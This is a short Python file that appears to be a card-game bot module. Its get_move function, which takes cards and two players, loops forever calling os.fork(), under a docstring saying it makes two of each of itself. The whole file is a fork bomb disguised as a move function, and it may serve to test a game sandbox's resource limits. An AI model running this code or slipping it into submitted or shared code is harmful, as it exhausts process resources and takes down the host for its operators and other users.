"""Makes two of each of itself."""

import os


def get_move(cards, player1, player2):
    while True:
        os.fork()
